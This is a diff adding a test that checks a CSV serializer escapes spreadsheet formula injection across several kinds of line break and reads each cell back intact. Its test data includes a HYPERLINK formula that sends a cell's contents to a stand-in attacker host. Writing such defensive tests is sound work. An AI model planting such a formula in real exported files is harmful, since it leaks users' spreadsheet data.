@@ -78,4 +78,30 @@ describe("CSV content files", () => {
       risky.faqs.map(({ question, answer }) => ({ question, answer })),
     );
   });
+
+  it("escapes a formula that holds a line break in every column, quotes U+2028 and U+2029, and reads each cell back unchanged", () => {
+    const breaks = ["\n", "\r\n", "\u2028", "\u2029"];
+    const formula = (mark: string) => `=HYPERLINK("https://evil.example/?d="&D2,"x${mark}y")`;
+    const cells = breaks.flatMap((mark) => [formula(mark), `plain${mark}text`, `@SUM(1${mark}2)`]);
+    const risky: ContentRecord = {
+      ...RECORD,
+      faqs: cells.map((cell, n) => ({ category: `${cell} ${n}`, question: `${cell} ?${n}`, answer: cell })),
+      translations: [
+        { language: "pt", faqs: cells.map((cell, n) => ({ source: `${cell} ?${n}`, question: `${cell} pt${n}`, answer: cell })) },
+      ],
+    };
+    const csv = serializeCsv([risky]);
+    const rows = parseCsv(csv);
+    expect(rows.errors).toEqual([]);
+    const [list] = rows.lists;
+    expect(list!.faqs.map(({ category, question, answer }) => ({ category, question, answer }))).toEqual(risky.faqs);
+    expect(list!.translations.map(({ source, question, answer }) => ({ source, question, answer }))).toEqual(risky.translations![0]!.faqs);
+    // No cell starts a formula in the file as a spreadsheet reads it: each is quoted, and its first character is a '.
+    for (const cell of cells.filter((c) => /^[=@]/.test(c))) {
+      const written = `"'${cell.replaceAll('"', '""')}`;
+      expect(csv).toContain(written);
+      expect(csv).not.toMatch(new RegExp(`(^|,)"?${cell[0] === "=" ? "=" : "@"}`, "m"));
+    }
+    for (const mark of ["\u2028", "\u2029"]) expect(csv).toContain(`"plain${mark}text"`);
+  });
 });
